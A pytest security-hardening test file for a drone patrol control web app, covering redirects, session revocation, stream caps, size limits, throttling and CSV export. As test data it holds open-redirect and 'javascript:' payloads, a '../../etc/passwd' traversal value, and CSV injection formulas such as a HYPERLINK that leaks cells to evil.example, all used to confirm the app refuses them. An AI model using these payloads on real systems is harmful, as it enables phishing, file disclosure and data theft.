"""The control app as an attacker meets it: redirects, revocation, streams, sizes, headers."""

from __future__ import annotations

import copy
import csv
import io
import json
import math
import stat
import threading
import time
import urllib.error
import urllib.request
from pathlib import Path

import pytest
from flask import Flask
from support import (
    REPORT_DAY,
    REPORT_NETWORK,
    TEST_PASSWORD_COST,
    seed_report_day,
    served_app,
    wait_until,
)

from dronepatrol.accounts import AccountService, Role
from dronepatrol.accounts import service as account_service
from dronepatrol.accounts.passwords import DEFAULT_LOG2_N, hash_password
from dronepatrol.database import make_engine, upgrade
from dronepatrol.events import Event, EventKind
from dronepatrol.mavlink.tlog import TlogWriter
from dronepatrol.network import parse_network
from dronepatrol.records.archive import SortieRecord, SortieSummary
from dronepatrol.settings import Settings
from dronepatrol.web import create_app
from dronepatrol.web.security import LoginThrottle, reserve_threads, safe_next
from dronepatrol.web.sorties import without_server_paths
from dronepatrol.web.stream import encode

# ------------------------------------------------------------------ sign-in redirect


@pytest.mark.parametrize(
    "target",
    [
        "/\t/evil.example/phish",
        "/\n/evil.example",
        "//evil.example/phish",
        "/\\evil.example",
        "/\\\\evil.example",
        "https://evil.example/",
        "javascript:alert(1)",
        "/.//evil.example",
        "/./\t/evil.example",
        "/a/..//evil.example",
        "/%2E//evil.example",
        "evil.example",
        "",
        None,
    ],
)
def test_next_never_leaves_the_site(target: str | None) -> None:
    assert safe_next(target) == "/"


def test_next_keeps_paths_on_the_site() -> None:
    assert safe_next("/sorties?vehicle=S01-1#7") == "/sorties?vehicle=S01-1#7"


def test_login_form_with_a_tab_in_next_lands_at_home(app: Flask, password: str) -> None:
    """``/login?next=/%09/evil.example/phish`` once sent people to evil.example."""
    client = app.test_client()
    page = client.get("/login?next=/%09/evil.example/phish")
    assert b"evil.example" not in page.data
    with client.session_transaction() as session:
        session["csrf"] = "t"
    response = client.post(
        "/login",
        data={
            "username": "viewer",
            "password": password,
            "csrf_token": "t",
            "next": "/\t/evil.example/phish",
        },
    )
    assert response.status_code == 302 and response.headers["Location"] == "/"


# ------------------------------------------------------------------ revocation


def _cookie_copy(app: Flask, signed_in) -> object:
    """A second browser holding the same session cookie (a stolen or old cookie)."""
    other = app.test_client()
    cookie = signed_in.get_cookie("session")
    other.set_cookie("session", cookie.value)
    return other


def test_sign_out_revokes_the_session_cookie(app: Flask, browser_as) -> None:
    browser = browser_as("operator")
    stolen = _cookie_copy(app, browser)
    assert stolen.get("/api/me").status_code == 200
    assert browser.post("/logout").status_code == 302
    assert stolen.get("/api/me").status_code == 401


def test_password_change_revokes_sessions_and_tokens(app: Flask, browser_as, token_for) -> None:
    browser = browser_as("operator")
    token = token_for("operator")
    app.extensions["dronepatrol"].accounts.set_password("operator", "a-new-pass-2")
    assert browser.get("/api/me").status_code == 401
    assert app.test_client().get("/api/me", headers=token).status_code == 401


def test_disabling_an_account_revokes_its_session(app: Flask, browser_as) -> None:
    browser = browser_as("commander")
    app.extensions["dronepatrol"].accounts.set_disabled("commander", True)
    assert browser.get("/api/me").status_code == 401


def test_event_stream_closes_when_its_token_is_revoked(app: Flask, token_for) -> None:
    headers = token_for("viewer")
    client = app.test_client()
    response = client.get("/api/events", headers=headers, buffered=False)
    chunks = iter(response.response)
    assert next(chunks).startswith(b"retry:")
    assert app.test_client().post("/api/logout", headers=headers).status_code == 200
    try:
        wait_until(
            lambda: next(chunks, None) is None,
            15.0,
            "the event stream to end after its token was revoked",
            every_s=0,
        )
    finally:
        response.close()


# ------------------------------------------------------------------ stream cap


def test_one_account_cannot_hold_every_stream(app: Flask, token_for) -> None:
    headers = token_for("viewer")
    limit = app.config["SETTINGS"].stream_limit
    opened = [
        app.test_client().get("/api/events", headers=headers, buffered=False) for _ in range(limit)
    ]
    assert all(r.status_code == 200 for r in opened)
    refused = app.test_client().get("/api/events", headers=headers, buffered=False)
    assert refused.status_code == 429
    assert "live streams" in refused.get_json()["message"]
    other = app.test_client().get("/api/events", headers=token_for("operator"), buffered=False)
    assert other.status_code == 200, "another account is not held back by the viewer's streams"
    opened.pop().close()
    again = app.test_client().get("/api/events", headers=headers, buffered=False)
    assert again.status_code == 200
    for response in (*opened, other, again):
        response.close()


# ------------------------------------------------------------------ sizes


def test_a_video_long_poll_takes_one_of_the_account_s_stream_slots(app: Flask, token_for) -> None:
    """Each Janus long poll holds a server thread for up to 35 s; they were uncounted, so
    one viewer could hold every thread with sessions of their own."""
    viewer = app.extensions["dronepatrol"].accounts.get_user("viewer")
    app.extensions["janus_sessions"].add(4242, viewer.id)
    quota = app.extensions["dronepatrol_streams"]
    for _ in range(quota.per_user):
        assert quota.acquire("viewer")
    answer = app.test_client().get("/video/janus/4242?maxev=1", headers=token_for("viewer"))
    assert answer.status_code == 429 and "live streams" in answer.get_json()["message"]
    quota.release("viewer")
    answer = app.test_client().get("/video/janus/4242?maxev=1", headers=token_for("viewer"))
    assert answer.status_code == 503  # let through; no media server runs in this test
    assert quota.open_count("viewer") == quota.per_user - 1  # its slot given back


def test_a_huge_sign_in_is_refused_before_it_is_read(client) -> None:
    body = json.dumps({"username": "admin", "password": "x" * 100_000})
    started = time.monotonic()
    response = client.post("/api/login", data=body, content_type="application/json")
    assert response.status_code == 413
    assert response.get_json()["error"]
    assert time.monotonic() - started < 2.0


def test_request_bodies_over_the_limit_are_refused(tmp_path: Path, password: str) -> None:
    settings = Settings(data_dir=tmp_path, password_cost=TEST_PASSWORD_COST, max_request_mb="1")
    app = create_app({"TESTING": True, "SETTINGS": settings})
    room = app.extensions["dronepatrol"]
    room.accounts.add_user("c", Role.COMMANDER, password)
    client = app.test_client()
    token = client.post("/api/login", json={"username": "c", "password": password}).get_json()
    body = json.dumps({"lat": -35.36, "lon": 149.16, "note": "x" * (2 * 1024 * 1024)})
    response = client.post(
        "/api/incidents",
        data=body,
        content_type="application/json",
        headers={"Authorization": f"Bearer {token['token']}"},
    )
    room.stop()
    assert response.status_code == 413


def test_an_incident_note_is_a_few_lines_not_a_document(app: Flask, token_for) -> None:
    response = app.test_client().post(
        "/api/incidents",
        json={"lat": -35.36, "lon": 149.16, "priority": "key", "note": "x" * 5000},
        headers=token_for("commander"),
    )
    assert response.status_code == 400
    assert "2000 characters" in response.get_json()["message"]


def test_the_event_stream_never_sends_bare_nan() -> None:
    event = Event(EventKind.DISPATCH, "1", {"eta_s": math.nan, "x": [math.inf]})
    message = encode(event)
    payload = json.loads(message.split("data: ", 1)[1])
    assert payload["data"] == {"eta_s": None, "x": [None]}


# ------------------------------------------------------------------ files


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_data_directory_and_database_are_private(tmp_path: Path) -> None:
    data = tmp_path / "data"
    data.mkdir(mode=0o755)
    settings = Settings(data_dir=data, password_cost=TEST_PASSWORD_COST)
    app = create_app({"TESTING": True, "SETTINGS": settings})
    app.extensions["dronepatrol"].stop()
    assert _mode(data) == 0o700
    assert _mode(settings.tlog_dir) == 0o700 and _mode(settings.recordings_dir) == 0o700
    assert _mode(data / "dronepatrol.db") == 0o600
    writer = TlogWriter(settings.tlog_dir / "s.tlog")
    writer.close()
    assert _mode(settings.tlog_dir / "s.tlog") == 0o600


def test_sortie_answers_carry_file_names_not_server_paths() -> None:
    summary = SortieSummary(7, "1", "S01-1", "", [], "S01", "ops", 1.0, 2.0, "ok", "", 0, 0, 1, 1)
    record = SortieRecord(
        summary,
        [],
        [],
        [{"snapshot_path": "/srv/dronepatrol/recordings/s7/det-1.jpg", "class_name": "person"}],
        [{"kind": "video", "path": "/srv/dronepatrol/recordings/s7/video.mp4"}],
    )
    public = without_server_paths(record)
    assert public.media[0]["path"] == "video.mp4"
    assert public.detections[0]["snapshot_path"] == "det-1.jpg"
    assert "/srv/" not in json.dumps(public.as_dict())


# ------------------------------------------------------------------ headers and cookies


def test_a_video_stream_s_status_names_its_recording_not_where_the_server_keeps_it(
    app: Flask, token_for
) -> None:
    """``GET /video/<id>/status`` passed the pipeline's dict on whole: the recording's
    absolute path and the encoder's internal RTP address with it."""
    buffer = app.extensions["video"].ensure("1", "Copter-1")
    source = {"name": "sim", "connected": True, "frames": 3, "reconnects": 0, "last_error": None}
    publisher = {"url": "rtp://127.0.0.1:5004", "frames": 3, "bitrate_bps": 9000, "dropped": 0}
    buffer.status_source = lambda: {
        "source": source,
        "frames_in": 3,
        "frames_skipped": 0,
        "recording": "/srv/dronepatrol/recordings/sortie-7-Copter-1.mp4",
        "recording_dropped": 0,
        "stage_ms": {"detect": 1.5},
        "tracks": 0,
        "publisher": publisher,
    }
    client = app.test_client()
    for path in ("/video/1/status", "/video/"):
        answer = client.get(path, headers=token_for("viewer"))
        assert answer.status_code == 200
        assert "/srv" not in answer.text and "rtp:" not in answer.text
    status = client.get("/video/1/status", headers=token_for("viewer")).get_json()
    assert status["pipeline"]["recording"] == "sortie-7-Copter-1.mp4"
    assert status["pipeline"]["publisher"]["frames"] == 3


def test_the_video_json_routes_answer_errors_in_json_to_a_browser(app: Flask, browser_as) -> None:
    """The video player reads the error's message; a browser asking once got an HTML page."""
    answer = browser_as("viewer").get("/video/nobody/player", headers={"Accept": "text/html"})
    assert answer.status_code == 404 and "no video stream" in answer.get_json()["message"]


def test_pages_forbid_inline_script(app: Flask, browser_as) -> None:
    response = browser_as("viewer").get("/")
    policy = response.headers["Content-Security-Policy"]
    script_src = next(p for p in policy.split("; ") if p.startswith("script-src"))
    assert script_src == "script-src 'self'"
    assert "frame-ancestors 'none'" in policy
    assert response.headers["Referrer-Policy"] == "same-origin"


def test_secure_cookie_setting_marks_the_session_cookie(tmp_path: Path, password: str) -> None:
    settings = Settings(data_dir=tmp_path, password_cost=TEST_PASSWORD_COST, secure_cookie="true")
    app = create_app({"TESTING": True, "SETTINGS": settings})
    app.extensions["dronepatrol"].accounts.add_user("v", Role.VIEWER, password)
    client = app.test_client()
    with client.session_transaction() as session:
        session["csrf"] = "t"
    response = client.post(
        "/login", data={"username": "v", "password": password, "csrf_token": "t"}
    )
    app.extensions["dronepatrol"].stop()
    cookies = response.headers.getlist("Set-Cookie")
    assert {c.split("=", 1)[0] for c in cookies} == {"session", "dp_device"}
    assert all("Secure" in cookie and "HttpOnly" in cookie for cookie in cookies)
    assert "Strict-Transport-Security" in response.headers


# ------------------------------------------------------------------ throttling


def test_guessing_from_one_address_does_not_lock_the_account_out() -> None:
    now = [0.0]
    throttle = LoginThrottle(free_failures=5, base_wait_s=1.0, clock=lambda: now[0])
    for _ in range(5):
        throttle.failed("127.0.0.2", "admin")
    assert throttle.retry_after_s("127.0.0.2", "admin") == pytest.approx(1.0)
    assert throttle.retry_after_s("127.0.0.3", "admin") == 0.0
    throttle.failed("127.0.0.2", "admin")
    throttle.failed("127.0.0.2", "admin")
    assert throttle.retry_after_s("127.0.0.2", "admin") == pytest.approx(4.0)
    now[0] += 4.0
    assert throttle.retry_after_s("127.0.0.2", "admin") == 0.0


def test_an_address_spraying_many_names_waits() -> None:
    now = [0.0]
    throttle = LoginThrottle(address_failures=10, window_s=60.0, clock=lambda: now[0])
    for k in range(10):
        throttle.failed("127.0.0.2", f"user{k}")
    assert throttle.retry_after_s("127.0.0.2", "admin") > 0
    assert throttle.retry_after_s("127.0.0.3", "admin") == 0.0


def test_admin_signs_in_from_elsewhere_while_one_address_guesses(app: Flask, password: str) -> None:
    attacker = app.test_client()
    attacker.environ_base["REMOTE_ADDR"] = "127.0.0.2"
    for _ in range(8):
        attacker.post("/api/login", json={"username": "admin", "password": "wrong-guess"})
    blocked = attacker.post("/api/login", json={"username": "admin", "password": password})
    assert blocked.status_code == 429 and blocked.headers["Retry-After"]
    admin = app.test_client()
    admin.environ_base["REMOTE_ADDR"] = "127.0.0.3"
    assert (
        admin.post("/api/login", json={"username": "admin", "password": password}).status_code
        == 200
    )


def test_a_neighbour_guessing_cannot_lock_out_a_browser_signed_in_from_before(
    app: Flask, password: str
) -> None:
    """Everyone behind one address (a NAT, or a proxy without ``proxy_hops``) once waited
    out each guess someone else made at admin's password: up to 5 min a guess, for ever."""
    admin = app.test_client()
    admin.environ_base["REMOTE_ADDR"] = "127.0.0.2"
    right = {"username": "admin", "password": password}
    assert admin.post("/api/login", json=right).status_code == 200
    assert admin.get_cookie("dp_device").http_only
    neighbour = app.test_client()
    neighbour.environ_base["REMOTE_ADDR"] = "127.0.0.2"
    for _ in range(8):
        neighbour.post("/api/login", json={"username": "admin", "password": "wrong-guess"})
    assert neighbour.post("/api/login", json=right).status_code == 429
    assert admin.post("/api/login", json=right).status_code == 200

    # the marker is signed and names its user: one made up, or a viewer's, trusts nobody
    viewer = app.test_client()
    viewer.environ_base["REMOTE_ADDR"] = "127.0.0.4"
    viewer.post("/api/login", json={"username": "viewer", "password": password})
    for value in (viewer.get_cookie("dp_device").value, "forged", ""):
        neighbour.set_cookie("dp_device", value)
        assert neighbour.post("/api/login", json=right).status_code == 429

    # guessing from a trusted browser slows that browser down like any other client
    for _ in range(8):
        admin.post("/api/login", json={"username": "admin", "password": "wrong-guess"})
    assert admin.post("/api/login", json=right).status_code == 429


def test_the_login_form_marks_the_browser_trusted_too(app: Flask, password: str) -> None:
    browser = app.test_client()
    with browser.session_transaction() as session:
        session["csrf"] = "t"
    form = {"username": "admin", "password": password, "csrf_token": "t", "next": "/"}
    assert browser.post("/login", data=form).status_code == 302
    cookie = browser.get_cookie("dp_device")
    assert cookie.http_only and cookie.same_site == "Strict"


def test_passwords_are_checked_a_few_at_a_time_and_the_rest_told_to_retry(
    app: Flask, password: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each check at OWASP's cost takes 128 MiB: 16 sign-ins for unknown names at once took
    the server from 0.17 to 2.0 GiB, and its 160 workers could have asked for 20 GiB."""
    room = app.extensions["dronepatrol"]
    room.accounts = AccountService(
        room.engine, password_log2_n=int(TEST_PASSWORD_COST), parallel_hashes=1, hash_wait_s=0.2
    )
    hashing, finish = threading.Semaphore(0), threading.Event()
    check = account_service.verify_password

    def held_check(typed: str, stored: str) -> bool:
        hashing.release()
        finish.wait(10)
        return check(typed, stored)

    monkeypatch.setattr(account_service, "verify_password", held_check)
    right = {"username": "admin", "password": password}
    first: list[int] = []
    signing_in = threading.Thread(
        target=lambda: first.append(app.test_client().post("/api/login", json=right).status_code)
    )
    signing_in.start()
    assert hashing.acquire(timeout=10)  # the first sign-in is checking its password
    busy = app.test_client().post("/api/login", json={"username": "nobody", "password": "x"})
    assert busy.status_code == 503 and busy.headers["Retry-After"] == "2"
    assert "try again" in busy.get_json()["message"]
    browser = app.test_client()
    with browser.session_transaction() as session:
        session["csrf"] = "t"
    form = {"username": "nobody", "password": "x", "csrf_token": "t", "next": "/"}
    page = browser.post("/login", data=form)
    assert page.status_code == 503 and b"try again" in page.data  # the sign-in page, saying so
    finish.set()
    signing_in.join(10)
    assert first == [200]
    assert app.test_client().post("/api/login", json=right).status_code == 200


# ------------------------------------------------------------------ password hashes


def test_passwords_are_hashed_at_owasp_cost_and_old_hashes_upgraded(tmp_path: Path) -> None:
    engine = upgrade(make_engine(f"sqlite:///{tmp_path / 'a.db'}"))
    old = AccountService(engine, password_log2_n=14)
    old.add_user("ops", Role.OPERATOR, "ops-pass-1")
    accounts = AccountService(engine)
    assert hash_password("x").split("$")[1] == str(2**DEFAULT_LOG2_N)
    assert accounts.authenticate("ops", "ops-pass-1") is not None
    from sqlalchemy import select
    from sqlalchemy.orm import Session

    from dronepatrol.database import User

    with Session(engine) as session:
        stored = session.scalar(select(User.password_hash).where(User.name == "ops"))
    assert stored.split("$")[1] == str(2**17)
    assert accounts.authenticate("ops", "ops-pass-1") is not None
    engine.dispose()


# ------------------------------------------------------------------ bad parameters are 4xx


@pytest.mark.parametrize(
    "query",
    [
        "date=2026-12-01&tz=America",
        "date=2026-12-01&tz=" + "A" * 5000,
        "date=2026-12-01&tz=../../etc/passwd",
        "date=9999-12-31",
        "date=0001-01-01&tz=Pacific/Kiritimati",
    ],
)
def test_report_parameters_that_cannot_be_read_are_400(app: Flask, token_for, query) -> None:
    from dronepatrol.network import load_network

    app.extensions["dronepatrol"].network = load_network(
        Path(__file__).resolve().parents[2] / "missions" / "canberra-sitl.geojson"
    )
    for path in ("/api/reports/day", "/api/reports/day.csv"):
        response = app.test_client().get(f"{path}?{query}", headers=token_for("viewer"))
        assert response.status_code == 400, (path, query)
        assert "e.g. ?date=" in response.get_json()["message"]


@pytest.mark.parametrize(
    "path", ["/api/incidents", "/api/large-events", "/api/lockdown", "/api/plans"]
)
def test_json_nested_50000_deep_is_400(app: Flask, token_for, path: str) -> None:
    from dronepatrol.network import load_network

    app.extensions["dronepatrol"].network = load_network(
        Path(__file__).resolve().parents[2] / "missions" / "canberra-sitl.geojson"
    )
    deep = "[" * 50_000 + "]" * 50_000
    response = app.test_client().post(
        path, data=deep, content_type="application/json", headers=token_for("admin")
    )
    assert response.status_code == 400


# ------------------------------------------------------------------ query strings


@pytest.mark.parametrize(
    "path",
    ["/api/incidents", "/api/vehicles", "/api/lockdown", "/api/large-events", "/api/me", "/video/"],
)
def test_a_parameter_no_route_reads_is_400_not_ignored(app: Flask, token_for, path: str) -> None:
    """``GET /api/incidents?status=open`` answered every incident, as if filtered."""
    viewer = token_for("viewer")
    response = app.test_client().get(f"{path}?status=open", headers=viewer)
    assert response.status_code == 400
    assert "'status'" in response.get_json()["message"]
    assert app.test_client().get(path, headers=viewer).status_code == 200


def test_an_unread_parameter_still_hears_401_and_403_first(app: Flask, token_for) -> None:
    client = app.test_client()
    assert client.get("/api/incidents?status=open").status_code == 401
    viewer = token_for("viewer")
    assert client.post("/api/incidents?x=1", json={}, headers=viewer).status_code == 403
    assert client.get("/api/sorties?limit=5", headers=viewer).status_code == 200  # it reads one


# ------------------------------------------------------------------ downloads


def test_the_day_report_csv_never_hands_a_spreadsheet_a_formula(app: Flask, token_for) -> None:
    """A target named ``=HYPERLINK(...)`` in a network or event file became a live formula
    in the commander's spreadsheet (OWASP's CSV injection)."""
    network = copy.deepcopy(REPORT_NETWORK)
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "@SUM(1+1)", "+1+cmd", "-2+3"]
    targets = [f for f in network["features"] if f["properties"]["kind"] != "station"]
    for feature, name in zip(targets, hostile, strict=False):
        feature["properties"]["name"] = name
    room = app.extensions["dronepatrol"]
    room.network, issues = parse_network(network)
    assert not issues
    seed_report_day(room.engine)
    query = f"date={REPORT_DAY}&tz=%2B08:00"
    answer = app.test_client().get(f"/api/reports/day.csv?{query}", headers=token_for("viewer"))
    rows = list(csv.DictReader(io.StringIO(answer.get_data(as_text=True))))
    names = {r["name"] for r in rows if r["level"] == "target"}
    assert names == {"'" + name for name in hostile[: len(targets)]}
    assert all(not v.startswith(("=", "+", "@")) for r in rows for v in r.values())
    assert any(r["on_time_rate"] for r in rows)  # figures stay figures


def test_the_video_relay_takes_a_janus_request_s_own_fields_only(app: Flask, browser_as) -> None:
    """The relay to the media server read its body by hand and dropped what it did not
    know; now a field it does not take is named in a 400, as everywhere else."""
    viewer = browser_as("viewer")
    extra = viewer.post(
        "/video/janus", json={"janus": "create", "transaction": "t", "apisecret": 1}
    )
    assert extra.status_code == 400 and "'apisecret'" in extra.get_json()["message"]
    typed = viewer.post("/video/janus", json={"janus": "create", "transaction": 7})
    assert typed.status_code == 400 and "'transaction'" in typed.get_json()["message"]
    broken = viewer.post("/video/janus", data="{", content_type="application/json")
    assert broken.status_code == 400
    right = viewer.post("/video/janus", json={"janus": "create", "transaction": "t"})
    assert right.status_code == 503  # let through: no media server runs in this test


def test_a_lockdown_s_names_are_a_few_words_not_a_document(app: Flask, token_for) -> None:
    """A 5 MB lockdown name reached the hold incidents' notes and failed there: a 500."""
    operator = token_for("operator")
    point = {"id": "gate", "lat": -35.36, "lon": 149.16}
    for body, field in (
        ({"name": "N" * 5_000_000, "points": [point]}, "'name'"),
        ({"name": "exits", "points": [{**point, "id": "I" * 101}]}, "'points.0.id'"),
        ({"name": "exits", "points": [{**point, "name": "x" * 101}]}, "'points.0.name'"),
        ({"plan": "P" * 101}, "'plan'"),
    ):
        answer = app.test_client().post("/api/lockdown", json=body, headers=operator)
        assert answer.status_code == 400 and field in answer.get_json()["message"], field
    many = [{**point, "id": f"p{k}"} for k in range(1001)]
    answer = app.test_client().post(
        "/api/lockdown", json={"name": "exits", "points": many}, headers=operator
    )
    assert answer.status_code == 400 and "'points'" in answer.get_json()["message"]
    assert app.test_client().get("/api/lockdown", headers=operator).get_json()["lockdown"] is None


def test_error_answers_keep_their_headers_and_json_on_the_video_relay(
    app: Flask, browser_as
) -> None:
    """A 405 lost its Allow header in the JSON error; an unmatched relay path was a page."""
    viewer = browser_as("viewer")
    answer = viewer.delete("/api/me")
    assert answer.status_code == 405 and set(answer.headers["Allow"].split(", ")) >= {"GET"}
    assert answer.get_json()["error"] == "Method Not Allowed"
    answer = viewer.get("/video/janus/-1?maxev=1", headers={"Accept": "text/html"})
    assert answer.status_code == 404 and answer.is_json


def test_many_accounts_cannot_hold_every_server_thread_either(app: Flask, token_for) -> None:
    """Each account's cap is 8 streams, but 20 accounts held all of serve's 160 threads."""
    assert reserve_threads(app, 160) == 140
    assert reserve_threads(app, 8) == 4
    quota = app.extensions["dronepatrol_streams"]
    reserve_threads(app, 6)  # 2 streams at most
    for account in ("commander", "operator"):
        assert quota.acquire(account)
    client = app.test_client()
    refused = client.get("/api/events", headers=token_for("viewer"))
    assert refused.status_code == 503 and "live streams open" in refused.get_json()["message"]
    assert client.get("/api/health").status_code == 200
    quota.release("operator")
    flowing = client.get("/api/events", headers=token_for("viewer"), buffered=False)
    assert flowing.status_code == 200
    flowing.close()
    assert quota.open_count("viewer") == 0


def test_serve_keeps_threads_free_for_requests_whatever_streams_are_open(tmp_path: Path) -> None:
    """Served with 8 threads, 8 event streams of 4 accounts left /api/health unanswered."""
    admin_password = "hardening-admin-1"
    with served_app(tmp_path, admin_password, "--threads", "8", "--schedule", "off") as base:
        login = urllib.request.Request(
            f"{base}/api/login",
            data=json.dumps({"username": "admin", "password": admin_password}).encode(),
            headers={"Content-Type": "application/json"},
        )
        with urllib.request.urlopen(login, timeout=30) as answer:
            token = json.load(answer)["token"]
        events = urllib.request.Request(
            f"{base}/api/events", headers={"Authorization": f"Bearer {token}"}
        )
        streams = [urllib.request.urlopen(events, timeout=30) for _ in range(4)]
        try:
            with pytest.raises(urllib.error.HTTPError) as refused:
                urllib.request.urlopen(events, timeout=30)
            refused.value.close()
            assert refused.value.code == 503
            with urllib.request.urlopen(f"{base}/api/health", timeout=10) as health:
                assert health.status == 200
        finally:
            for stream in streams:
                stream.close()
